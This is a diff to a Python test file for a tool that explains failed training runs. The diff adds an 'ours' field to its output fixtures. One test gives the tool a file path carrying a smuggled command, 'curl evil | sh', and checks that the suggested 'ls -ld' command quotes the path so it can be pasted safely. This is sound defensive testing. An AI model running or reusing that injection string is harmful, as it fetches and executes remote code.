@@ -38,7 +38,7 @@ EVENTS = [
     {**AT, "event": "exited", "exit_code": 1, "stopping": False, "message": "m", "tail": ["t"], **TRAINER},
     {**AT, "event": "phase", "phase": "stopping", "cause": {"kind": "exit", "message": "m", "node": 1, **TRAINER}},
 ]
-OUTPUTS = [{**TRAINER, "lines": [[1.7e9, "ValueError: x"]]}]
+OUTPUTS = [{**TRAINER, "ours": [], "lines": [[1.7e9, "ValueError: x"]]}]
 
 
 CONSTANT: dict[str, Any] = {
@@ -257,14 +257,14 @@ def test_a_cause_with_an_incomplete_process_does_not_crash_why(liars: Liars, hal
 
 def test_suggested_commands_with_paths_can_be_pasted_safely(liars: Liars) -> None:
     last = "FileNotFoundError: [Errno 2] No such file or directory: '/x; curl evil | sh #'"
-    outputs = [{**TRAINER, "lines": [[1.7e9, "Traceback (most recent call last):"], [1.7e9, last]]}]
+    outputs = [{**TRAINER, "ours": [], "lines": [[1.7e9, "Traceback (most recent call last):"], [1.7e9, last]]}]
     liars.answers["node0"] = liars.answers["node1"] = failed_run(*EVENTS, outputs=outputs)
     _, out, _ = liars.run("why")
     assert "ls -ld '/x; curl evil | sh #'\n" in out
 
 
 def test_an_answer_to_why_with_overlong_lines_is_refused(liars: Liars) -> None:
-    outputs = [{**TRAINER, "lines": [[1.7e9, "x" * (1 << 17)]]}]
+    outputs = [{**TRAINER, "ours": [], "lines": [[1.7e9, "x" * (1 << 17)]]}]
     liars.answers["node0"] = failed_run(*EVENTS)
     liars.answers["node1"] = failed_run(*EVENTS, outputs=outputs)
     code, out, err = liars.run("why")
